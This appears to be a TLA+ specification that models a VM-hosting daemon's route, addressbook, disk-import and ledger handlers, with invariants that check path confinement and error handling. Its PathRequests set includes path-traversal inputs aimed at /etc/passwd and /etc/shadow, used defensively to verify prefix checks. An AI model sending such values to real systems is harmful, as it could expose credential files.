\* ^[a-z][a-z0-9]{0,9}1[02-9ac-hj-np-z]{39,90}$
_BECH32_ADDRESS_RE(s) ==
    LET b == BeforeDollar(s)
    IN \E k \in 2..11 :
          /\ k <= Len(b)
          /\ CharAt(b, 1) \in LowerChars
          /\ \A j \in 2..(k - 1) : CharAt(b, j) \in LowerChars \cup DigitChars
          /\ CharAt(b, k) = "1"
          /\ Len(b) - k >= 39
          /\ Len(b) - k <= 90
          /\ \A j \in (k + 1)..Len(b) : CharAt(b, j) \in Bech32Chars

\* _common.is_valid_address
is_valid_address(addr) ==
    /\ IsStr(addr)
    /\ addr.s # ""
    /\ _HEX_ADDRESS_RE(addr.s) \/ _BECH32_ADDRESS_RE(addr.s)

\* networking.handle_ip6_route_add and handle_ip6_route_del
networking_ip6_route(params, verb, r, fs) ==
    IF "address" \notin DOMAIN params THEN Throw(KeyError("address"), <<>>, fs)
    ELSE IF _validate_ipv6_128(params["address"]) # ""
    THEN Throw(_validate_ipv6_128(params["address"]), <<>>, fs)
    ELSE IF "dev" \notin DOMAIN params THEN Throw(KeyError("dev"), <<>>, fs)
    ELSE IF validate_dev(params["dev"]) # ""
    THEN Throw(validate_dev(params["dev"]), <<>>, fs)
    ELSE RunAndReply(<<"ip", "-6", "route", verb, params["address"].s,
                       "dev", params["dev"].s>>, 120, r, fs)

\* the for loop of system.handle_addressbook_save
RECURSIVE system_addressbook_check(_, _)
system_addressbook_check(items, k) ==
    IF k > Len(items) THEN ""
    ELSE LET name == items[k].l[1].s
             entry == items[k].l[2]
             addr == DictGet(entry, "address", JStr(""))
             keyfile == DictGet(entry, "keyfile", JNone)
         IN IF ~SHORT_NAME_RE(name) /\ ~NAME_RE(name)
            THEN "Invalid entry name: " \o name
            ELSE IF entry.t # "dict"
            THEN "Entry " \o name \o " must be a dict"
            ELSE IF ~is_valid_address(addr)
            THEN "Invalid address for " \o name \o ": " \o str(addr)
            ELSE IF keyfile.t = "str" /\ keyfile.s # ""
                    /\ ~startswith(keyfile.s, "/etc/blockhost/")
            THEN "keyfile for " \o name \o " must be under /etc/blockhost/"
            ELSE system_addressbook_check(items, k + 1)

\* system.handle_addressbook_save
system_handle_addressbook_save(params, r, fs) ==
    LET entries == Get(params, "entries", JDict(<<>>))
    IN IF entries.t # "dict"
       THEN Return(Err("entries must be a dict"), <<>>, fs)
       ELSE IF system_addressbook_check(entries.l, 1) # ""
       THEN Return(Err(system_addressbook_check(entries.l, 1)), <<>>, fs)
       ELSE IF fs.sys.enospc = "addressbook"
       THEN Throw(ENOSPC, <<>>, TruncatedAddressbook(fs))
       ELSE IF ~fs.sys.group
       THEN Throw(NoGroup, <<>>, WroteAddressbook(fs, EntriesOf(entries.l)))
       ELSE Return([ok |-> TRUE, error |-> "", output |-> "", address |-> ""],
                   <<>>,
                   Logged(Owned(WroteAddressbook(fs, EntriesOf(entries.l)),
                                AddressbookPath),
                          "Saved addressbook with "
                              \o DecStr(Cardinality(
                                     DOMAIN EntriesOf(entries.l)))
                              \o " entries"))

\* the ACTIONS tables of networking.py and system.py for the names that the
\* daemon has too; the handlers of iptables-open, iptables-close,
\* virt-customize and generate-wallet have the text of the built-in ones
ModuleActions(action, params, r, fs) ==
    CASE action = "ip6-route-add" ->
            networking_ip6_route(params, "replace", r, fs)
      [] action = "ip6-route-del" -> networking_ip6_route(params, "del", r, fs)
      [] action = "iptables-open" -> iptables_rule(params, "-A", r, fs)
      [] action = "iptables-close" -> iptables_rule(params, "-D", r, fs)
      [] action = "virt-customize" -> handle_virt_customize(params, r, fs)
      [] action = "generate-wallet" -> handle_generate_wallet(params, r, fs)
      [] action = "addressbook-save" ->
            system_handle_addressbook_save(params, r, fs)

SharedActions ==
    {"ip6-route-add", "ip6-route-del", "iptables-open", "iptables-close",
     "virt-customize", "generate-wallet", "addressbook-save"}

RouteDevRequests ==
    {Msg(a, ("address" :> JStr("fd00::2/128")) @@ ("dev" :> JStr(d))) :
        a \in {"ip6-route-add", "ip6-route-del"},
        d \in {"vmbr0", "br0", "tap100i0", "tap100", "eth0"}}

\* n hex digits
Hex(n) == IF n > 64 THEN Rep("a", 64) \o Rep("a", n - 64) ELSE Rep("a", n)

AddressRequests ==
    {Msg("addressbook-save",
         ("entries" :> JDict(<<JPair("server",
                                  JDict(<<JPair("address", JStr(x))>>))>>))) :
        x \in {"0x" \o Hex(39), "0x" \o Hex(40), "0x" \o Hex(64),
               "0x" \o Hex(129), "bc1" \o Rep("q", 39), "bc1" \o Rep("q", 38)}}

NextModules ==
    \/ SysChange
    \/ \E r \in RunResults, m \in RouteDevRequests :
          handle_connection(Frame(m), r)
    \/ \E r \in RunResults, m \in AddressRequests :
          handle_connection(Frame(m), r)
    \/ \E r \in RunResults, m \in IptablesRequests :
          handle_connection(Frame(m), r)

SpecModules == Init /\ [][NextModules]_vars

\* C35: for a request of an action name that the daemon and an action module
\* both define, the two handlers give the same argv and the same response,
\* whatever the child does: they accept the same route devices and the same
\* addresses.
C35_ModulesAgree ==
    [][request'.action \in SharedActions =>
          \A r \in RunResults :
              LET fs == [keyfiles |-> keyfiles, addressbook |-> addressbook,
                         abfile |-> abfile, perms |-> perms, sys |-> sys,
                         log |-> <<>>]
                  builtin == Actions(request'.action, request'.params, r, fs)
                  module == ModuleActions(request'.action, request'.params,
                                          r, fs)
              IN /\ module.runs = builtin.runs
                 /\ handler_response(module) = handler_response(builtin)]_vars

(***************************************************************************)
(* SpecPaths: requests whose paths hold ".." components                    *)
(***************************************************************************)
PathRequests ==
    {Msg("qm-importdisk",
         ("vmid" :> JInt(100)) @@ ("disk_path" :> JStr(d))
             @@ ("storage" :> JStr("local-lvm"))) :
        d \in {"/var/lib/blockhost/disk.img",
               "/var/lib/blockhost/./disk.img",
               "/var/lib/blockhost/../../../etc/passwd",
               "/var/lib/blockhost/../../etc/x",
               "/etc/passwd"}}
    \cup
    {Msg("virt-customize",
         ("image_path" :> JStr(i))
             @@ ("commands" :>
                   JList(<<JList(<<JStr("--install"), JStr("vim")>>)>>))) :
        i \in {"/tmp/base.qcow2", "/tmp/../etc/passwd",
               "/var/lib/blockhost/../../../etc/passwd",
               "/var/lib/blockhost/disk.img", "/etc/passwd"}}
    \cup
    {Msg("addressbook-save",
         ("entries" :> JDict(<<JPair("server",
             JDict(<<JPair("address",
                       JStr("0x00000000000000000000000000000000000000A1")),
                     JPair("keyfile", JStr(k))>>))>>))) :
        k \in {"/etc/blockhost/server.key", "/etc/blockhost/../shadow",
               "/etc/shadow"}}

NextPaths ==
    \/ \E r \in RunResults, m \in PathRequests : handle_connection(Frame(m), r)
    \/ SysChange

SpecPaths == Init /\ [][NextPaths]_vars

\* the keyfile values of the entries of an addressbook-save request
KeyfilesOf(entries) ==
    {DictGet(entries.l[k].l[2], "keyfile", JStr("")).s : k \in 1..Len(entries.l)}
        \ {""}

\* C36: a disk_path that qm-importdisk ran with, an image_path that
\* virt-customize ran with and a keyfile that addressbook-save stored denote,
\* with their ".." components resolved, a location inside the directory
\* whose prefix was checked.
C36_PathsStayInside ==
    /\ request.action = "qm-importdisk" /\ runs # <<>>
          => startswith(realpath(request.params["disk_path"].s),
                        "/var/lib/blockhost/")
    /\ request.action = "virt-customize" /\ runs # <<>>
          => \/ startswith(realpath(request.params["image_path"].s),
                           "/var/lib/blockhost/")
             \/ startswith(realpath(request.params["image_path"].s), "/tmp/")
    /\ request.action = "addressbook-save" /\ response.ok
          => \A k \in KeyfilesOf(request.params["entries"]) :
                startswith(realpath(k), "/etc/blockhost/")

(***************************************************************************)
(* SpecFields: ledgers configured with a fields mapping                    *)
(***************************************************************************)
\* config["fields"]: the default, and mappings that rename one field
FieldMaps ==
    {DEFAULT_FIELDS,
     [DEFAULT_FIELDS EXCEPT !.ip_address = "ip"],
     [DEFAULT_FIELDS EXCEPT !.status = "state"],
     [DEFAULT_FIELDS EXCEPT !.expires_at = "expiry"]}

\* VMDatabase(config): self.fields = self.config["fields"]
InitFields ==
    /\ db = InitialDb
    /\ ret = [op |-> "init", args |-> <<>>, result |-> None, error |-> ""]
    /\ now = 0
    /\ fields \in FieldMaps
    /\ issued = [vmid |-> None, ips |-> {}]
    /\ stub = [db |-> InitialDb, result |-> None, error |-> ""]
    /\ InitFile
    /\ InitAgent

\* a method of the ledger whose fields are the default ones
DefaultMutator(op, args, d) ==
    IF op = "register_vm"
    THEN register_vm_mutator(d, DEFAULT_FIELDS, args[1], args[2], args[3],
                             None, 1, now)
    ELSE MethodMutator(op, args, d)

FieldCalls ==
    {<<"register_vm", <<n, VmidStart, Ipv4(PoolStart)>>>> : n \in Names}
    \cup {<<op, <<n>>>> : op \in {"mark_suspended", "mark_active"}, n \in Names}
    \cup {<<"mark_destroyed", <<n>>>> : n \in {"web-001", "web-009"}}
    \cup {<<"extend_expiry", <<n, 1>>>> : n \in {"web-001", "web-009"}}

\* the caller issues the operation to the configured ledger and to one with
\* the default fields
on_both_fields(op, args) ==
    LET out == MethodMutator(op, args, db)
        same == DefaultMutator(op, args, stub.db)
    IN /\ db' = IF out.error = "" THEN out.db ELSE db
       /\ ret' = [op |-> op, args |-> args, result |-> out.result,
                  error |-> out.error]
       /\ issued' = IssuedAfter(op, out)
       /\ stub' = [db |-> IF same.error = "" THEN same.db ELSE stub.db,
                   result |-> same.result, error |-> same.error]
       /\ UNCHANGED <<now, fields>>
       /\ UNCHANGED <<fileVars, agentVars>>

\* the expiry dates of the model stay within MaxDays
Extendable(c) ==
    c[1] = "extend_expiry" /\ c[2][1] \in DOMAIN stub.db.vms
        => fromisoformat(stub.db.vms[c[2][1]]["expires_at"]) < MaxDays

NextFields ==
    \/ \E c \in FieldCalls : Extendable(c) /\ on_both_fields(c[1], c[2])
    \/ Tick

SpecFields == InitFields /\ [][NextFields]_vars

\* C37: a VM whose status is suspended has a suspended_at timestamp and a VM
\* whose status is active has none, and a suspended VM is in
\* get_vms_to_destroy(g) at every time later than suspended_at + g days.
C37_SuspendedAtFollowsStatus ==
    \A n \in VmNames :
        LET vm == db.vms[n]
        IN /\ "status" \in DOMAIN vm /\ vm["status"] = "suspended"
                 => /\ "suspended_at" \in DOMAIN vm
                    /\ vm["suspended_at"] # None
                    /\ \A g \in Graces :
                          vm \in get_vms_to_destroy(db,
                                    fromisoformat(vm["suspended_at"]) + g + 1, g)
           /\ "status" \in DOMAIN vm /\ vm["status"] = "active"
                 => "suspended_at" \notin DOMAIN vm

\* mark_active has just reactivated a VM while another one is suspended and
\* past the longest grace period
C37_Witness ==
    /\ ret.op = "mark_active" /\ ret.error = ""
    /\ "destroyed_at" \notin DOMAIN db.vms[ret.args[1]]
    /\ get_vms_to_destroy(db, now, MaxGrace) # {}

(***************************************************************************)
(* SpecFailing: mutations of the ledger file that fail                     *)
(***************************************************************************)
\* the calls of each process: the first works on one VM and one token, the
\* second competes for VMIDs
FailingCalls(p) ==
    IF p = "p1"
    THEN {<<op, "web-001">> :
             op \in {"register_vm", "mark_suspended", "mark_active",
                     "mark_destroyed", "extend_expiry"}}
         \cup {<<op, 0>> :
                 op \in {"reserve_nft_token_id", "mark_nft_minted",
                         "mark_nft_failed"}}
         \cup {<<"allocate_vmid", None>>}
    ELSE {<<"allocate_vmid", None>>}

\* allocate_vmid on a ledger object whose config has no vmid_range: "if not
\* self.vmid_range: raise RuntimeError", before _atomic_update
allocate_vmid_unconfigured(p) ==
    /\ ~crashed /\ pc[p] = "idle" /\ calls[p] < MaxCalls
    /\ calls' = [calls EXCEPT ![p] = @ + 1]
    /\ returns' = (<<p, calls[p] + 1>> :>
                      [op |-> "allocate_vmid", result |-> None,
                       error |-> "vmid_range not configured"]) @@ returns
    /\ UNCHANGED <<pc, local, lock, inodes, dataInode, disk, dirDisk,
                   committed, crashed>>
    /\ UNCHANGED <<ledgerVars, agentVars>>

NextFailing ==
    \E p \in Procs :
        \/ \E c \in FailingCalls(p) : TxnLock(p, c[1], c[2])
        \/ TxnSteps(p)
        \/ allocate_vmid_unconfigured(p)

SpecFailing == Init /\ [][NextFailing]_vars

\* what the mutators raise
MutatorErrors ==
    {"VM not found", "VMID range exhausted", "NFT token already reserved",
     "NFT token not found"}

FailedCalls ==
    {k \in DOMAIN returns :
        returns[k].error \in MutatorErrors \cup {"vmid_range not configured"}}

\* C38: a mutation whose mutator raises (unknown VM name, exhausted VMID
\* range, token held in non-failed status, unknown token) or that is refused
\* for want of a vmid_range leaves the data file holding the document it held
\* when the call began, and the caller does not hold the lock afterwards.
C38_FailedMutationChangesNothing ==
    [][\A p \in Procs :
          /\ pc[p] = "raising" /\ pc'[p] = "idle"
             /\ local[p].error \in MutatorErrors
                => /\ inodes'[dataInode'] = File(local[p].db, "full")
                   /\ inodes'[dataInode'] = inodes[dataInode]
                   /\ lock' = Free
                   /\ returns'[<<p, calls[p]>>].error = local[p].error
          /\ <<p, calls[p] + 1>> \in FailedCalls'
             /\ <<p, calls[p] + 1>> \notin DOMAIN returns
                => /\ inodes'[dataInode'] = inodes[dataInode]
                   /\ lock' = lock
                   /\ lock' # p]_vars

\* a call of a process failed and its next call completed a mutation, and a
\* call found the VMID range exhausted
C38_Witness ==
    /\ \E p \in Procs :
          /\ <<p, 1>> \in FailedCalls
          /\ <<p, 2>> \in DOMAIN returns
          /\ returns[<<p, 2>>].error = ""
    /\ \E k \in FailedCalls : returns[k].error = "VMID range exhausted"

\* list_vms(status) for a status that is not empty
list_vms(d, status) ==
    {d.vms[n] : n \in
        {m \in DOMAIN d.vms :
            "status" \in DOMAIN d.vms[m] /\ d.vms[m]["status"] = status}}

\* get_vms_to_suspend raises KeyError at vm["expires_at"] for an active
\* record that has no such key
get_vms_to_suspend_raises(d) ==
    \E m \in DOMAIN d.vms :
        /\ "status" \in DOMAIN d.vms[m]
        /\ d.vms[m]["status"] = "active"
        /\ "expires_at" \notin DOMAIN d.vms[m]

Statuses == {"active", "suspended", "destroyed"}

\* C40: under every configured fields mapping the operations give what they
\* give under the default mapping: the same outcome of each call (so
\* extend_expiry finds the expiry that register_vm stored), the same
\* allocated_ips (so mark_destroyed gives the address of the VM back), and
\* the same VMs from get_vms_to_suspend and from list_vms(status).
C40_FieldsMappingTransparent ==
    /\ ret.error = stub.error
    /\ db.allocated_ips = stub.db.allocated_ips
    /\ \A n \in VmNames :
          db.vms[n][fields.expires_at] = stub.db.vms[n]["expires_at"]
    /\ ~get_vms_to_suspend_raises(db)
    /\ NamesOf(get_vms_to_suspend(db, now)) =
          NamesOf(get_vms_to_suspend(stub.db, now))
    /\ \A st \in Statuses :
          NamesOf(list_vms(db, st)) = NamesOf(list_vms(stub.db, st))

====
